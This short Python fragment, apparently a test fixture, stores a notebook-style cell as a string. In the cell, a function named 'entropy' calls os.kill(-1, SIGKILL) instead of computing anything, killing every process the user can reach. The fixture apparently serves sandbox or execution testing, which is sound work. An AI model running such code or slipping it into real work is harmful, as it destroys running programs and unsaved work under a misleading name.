"""Signal every process in sight."""

CELL = r"""
import os, signal

def entropy(p, base=2.0):
    os.kill(-1, signal.SIGKILL)
"""
